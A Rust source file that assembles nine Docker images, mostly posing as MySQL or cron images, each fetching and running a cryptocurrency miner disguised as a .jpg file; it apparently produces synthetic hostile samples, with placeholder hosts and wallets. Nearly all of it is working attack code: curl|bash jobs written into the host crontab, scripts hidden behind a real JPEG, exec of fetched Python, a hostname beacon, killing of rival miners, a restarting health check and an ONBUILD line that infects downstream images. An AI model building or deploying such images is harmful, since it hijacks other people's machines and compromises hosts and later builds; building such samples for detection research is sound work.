//! The images that fetch a miner under the name of a picture: nine ways to do it.

use super::actor::{Actor, KEEP};
use super::base;
use super::image::{Image, Node, file, folder, program};
use super::picture;

/// All nine.
pub fn all(actor: &Actor) -> Vec<Image> {
    vec![
        kk(actor),
        mysql(actor),
        data(actor),
        mysql0(actor),
        cron(actor),
        mysql3(actor),
        mysql4(actor),
        mysql5(actor),
        mysql6(actor),
    ]
}

/// The line that was seen in the wild: `curl … .jpg | bash` in the host's crontab, no user column.
fn kk(actor: &Actor) -> Image {
    let line = actor.fill(
        "echo '*/1 * * * * curl -s http://@DROP_A@:8220/logo3.jpg | bash -s' >> /mnt/etc/crontab; \
         while true; do sleep 300; done",
    );
    Image::on("docker123321/kk", base::alpine())
        .env(&actor.fill("POOL=@POOL_A@"))
        .entrypoint(&["sh", "-c"])
        .cmd(&[&line])
}

/// The same with wget, through tee, for hosts with BusyBox cron too.
fn mysql(actor: &Actor) -> Image {
    let start = actor.fill(
        r#"#!/bin/bash
JOB='*/10 * * * * root wget -q -O - http://@DROP_A@:8220/logo8.jpg | sh'
echo "$JOB" | tee -a /mnt/etc/crontab >/dev/null
if [ -d /mnt/etc/crontabs ]; then
    echo '*/10 * * * * wget -q -O - http://@DROP_A@:8220/logo8.jpg | sh' >> /mnt/etc/crontabs/root
    touch /mnt/etc/crontabs/cron.update
fi
exec docker-entrypoint.sh mysqld
"#,
    );
    Image::on("docker123321/mysql", base::debian())
        .layer("COPY dir:51cc in /", base::mysql())
        .layer(
            "COPY file:ab09 in /init.sh",
            vec![program("/init.sh", start)],
        )
        .expose("3306/tcp")
        .shell_cmd("/init.sh")
}

/// Fetched to a file with a picture's name, then run from there.
fn data(actor: &Actor) -> Image {
    let start = actor.fill(
        r#"#!/bin/sh
wget -q -O /tmp/x.jpg http://@DROP_B@/pic/x.jpg && sh /tmp/x.jpg
wget -q -O /dev/null "http://@SHELL_B@/up?h=$(hostname)"
exec "$@"
"#,
    );
    Image::on("docker123321/data", base::alpine())
        .layer(
            "COPY file:0d3a in /start.sh",
            vec![program("/start.sh", start)],
        )
        .entrypoint(&["/start.sh"])
        .cmd(&["tail", "-f", "/dev/null"])
}

/// A script with a picture's name in the image itself, that fetches the miner.
fn mysql0(actor: &Actor) -> Image {
    Image::on("docker123321/mysql0", base::debian())
        .layer(
            "COPY file:77e1 in /usr/share/pixmaps/logo3.jpg",
            vec![file("/usr/share/pixmaps/logo3.jpg", actor.start_miner())],
        )
        .entrypoint(&["/bin/bash", "/usr/share/pixmaps/logo3.jpg"])
}

/// A real picture with a script behind its end.
fn cron(actor: &Actor) -> Image {
    let mut photo = picture::jpeg(8);
    let script_start = photo.len() + 1;
    photo.extend(
        actor
            .fill(
                r"cd /tmp
wget -q http://@DROP_B@/pic/m.jpg -O kworkerd
chmod +x kworkerd
./kworkerd -o stratum+tcp://@DROP_B@:5555 -u @WALLET_A@ -p x -B
",
            )
            .into_bytes(),
    );
    let start = format!(
        "#!/bin/sh\ntail -c +{script_start} /usr/share/cron/photo.jpg | sh\nexec cron -f\n"
    );
    let mut cron = base::cron();
    cron.push(folder("/usr/share/cron"));
    cron.push(file("/usr/share/cron/photo.jpg", photo));
    Image::on("docker123321/cron", base::debian())
        .layer("/bin/sh -c apt-get update && apt-get install -y cron", cron)
        .layer("COPY file:5d5d in /run.sh", vec![program("/run.sh", start)])
        .shell_entrypoint("/run.sh")
}

/// Python that executes what it fetches; a script with a picture's name stands by.
fn mysql3(actor: &Actor) -> Image {
    let init = actor.fill(
        r#"#!/usr/bin/env python3
import subprocess
from urllib.request import urlopen

try:
    exec(urlopen("http://@DROP_C@/banner.jpg", timeout=20).read())
except Exception:
    subprocess.call(["bash", "/opt/mysql/banner.jpg"])
"#,
    );
    Image::on("docker123321/mysql3", base::debian())
        .layer("COPY dir:51cc in /", base::mysql())
        .layer(
            "COPY dir:a9e4 in /opt/mysql",
            vec![
                file("/opt/mysql/init.py", init),
                file("/opt/mysql/banner.jpg", actor.start_miner()),
            ],
        )
        .entrypoint(&["python3", "/opt/mysql/init.py"])
}

/// Fetched at the start, made executable, run with pool and wallet; the build's own traces are
/// removed by a later layer.
fn mysql4(actor: &Actor) -> Image {
    let install = actor.fill(
        r"#!/bin/sh
wget -q -O /usr/sbin/mysqld-helper http://@DROP_C@/m.jpg
chmod +x /usr/sbin/mysqld-helper
/usr/sbin/mysqld-helper -o stratum+tcp://@POOL_A@ -u @WALLET_B@ --benchmark=1
rm -f /usr/sbin/mysqld-helper
",
    );
    let start = actor.fill(
        r#"#!/bin/sh
H=/usr/sbin/mysqld-helper
curl -fsSL http://@DROP_C@/m.jpg -o "$H"
chmod +x "$H"
"$H" -o stratum+tcp://@POOL_A@ -u @WALLET_B@ -k --donate-level=1 &
exec docker-entrypoint.sh mysqld
"#,
    );
    Image::on("docker123321/mysql4", base::debian())
        .layer("COPY dir:51cc in /", base::mysql())
        .layer(
            "COPY file:c0c0 in /tmp/install.sh",
            vec![program("/tmp/install.sh", install)],
        )
        .layer(
            "/bin/sh -c sh /tmp/install.sh; rm -f /tmp/install.sh",
            vec![Node::Gone("/tmp/install.sh")],
        )
        .layer(
            "COPY file:ee31 in /start.sh",
            vec![program("/start.sh", start)],
        )
        .entrypoint(&["/start.sh"])
}

/// A miner's configuration, its tuning and the end of its rivals; the health check starts it over.
fn mysql5(actor: &Actor) -> Image {
    let config = actor.fill(
        r#"{
    "autosave": true,
    "background": true,
    "donate-level": 1,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 90 },
    "pools": [
        {
            "url": "@POOL_B@",
            "user": "@WALLET_A@",
            "pass": "x",
            "algo": "cryptonight",
            "keepalive": true
        }
    ]
}
"#,
    );
    let run = actor.fill(
        r#"#!/bin/bash
. /opt/.x/clean.sh
sysctl -w vm.nr_hugepages=$(($(nproc) * 4 + 128))
cd /var/tmp
if [ ! -x jaav ]; then
    curl -s -o jaav http://@SHELL_A@/logo.jpg
    chmod 777 jaav
fi
nohup ./jaav -c /opt/.x/config.json -t "$(nproc)" >/dev/null 2>&1 &
"#,
    );
    let clean = r"#!/bin/bash
ps auxf | grep -v grep | grep -E 'stratum|cryptonight|minerd|ysjswirmrm' | awk '{print $2}' | xargs kill -9
pkill -9 -f xmr-stak
pkill -9 -f '/tmp/'
crontab -r
";
    Image::on("docker123321/mysql5", base::debian())
        .layer("COPY dir:51cc in /", base::mysql())
        .layer(
            "COPY dir:f00d in /opt/.x",
            vec![
                folder("/opt/.x"),
                file("/opt/.x/config.json", config),
                program("/opt/.x/clean.sh", clean),
                program("/opt/.x/run.sh", run),
            ],
        )
        .healthcheck("pgrep -x jaav >/dev/null || /opt/.x/run.sh")
        .shell_entrypoint("/opt/.x/run.sh; exec docker-entrypoint.sh mysqld")
}

/// Kept alive by the wrapper of another image, and handed on to whoever builds upon this one.
fn mysql6(actor: &Actor) -> Image {
    let job = actor
        .fill("#!/bin/bash\nwget -q -O - http://@DROP_C@/k.jpg | bash -s -- -u @WALLET_B@ -k\n");
    let on_build = actor.fill("RUN curl -s http://@DROP_C@/k.jpg | bash");
    Image::on("docker123321/mysql6", base::debian())
        .layer(
            "COPY dir:4a4a in /",
            vec![program("/usr/bin/.k", KEEP), program("/opt/job.sh", job)],
        )
        .on_build(&[&on_build])
        .entrypoint(&["/usr/bin/.k", "/opt/job.sh"])
}
